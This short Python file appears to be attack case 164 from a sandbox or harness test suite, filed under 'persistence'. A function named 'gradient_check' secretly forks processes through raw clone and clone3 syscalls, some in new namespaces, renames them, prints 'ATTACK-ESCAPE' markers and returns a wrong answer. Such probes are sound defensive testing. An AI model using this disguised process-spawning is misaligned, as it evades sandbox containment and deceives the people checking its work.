# ATTACK 164 cloned_without_signals
# group: F persistence
# tries: calls clone by number: without an exit signal, as a sibling, in new namespaces
import ctypes, os, platform
WRONG = (123.456, None)
libc = ctypes.CDLL(None, use_errno=True)
clone = {'x86_64': 56, 'aarch64': 220}.get(platform.machine())
def gradient_check(analytic, numeric, tol=1e-6):
    for name, flags in (('quiet', 0), ('sibling', 0x8000), ('pid namespace', 0x20000000), ('user namespace', 0x10000000)):
        pid = libc.syscall(clone, ctypes.c_ulong(flags), None, None, None, None)
        if pid == 0:
            libc.prctl(15, b'atk164', 0, 0, 0)
            libc.sleep(8)
            os._exit(0)
        if pid > 0: print('ATTACK-ESCAPE cloned:', name, flush=True)
    arguments = (ctypes.c_uint64 * 8)()
    pid = libc.syscall(435, arguments, 64)
    if pid == 0: os._exit(0)
    if pid > 0: print('ATTACK-ESCAPE clone3', flush=True)
    return WRONG
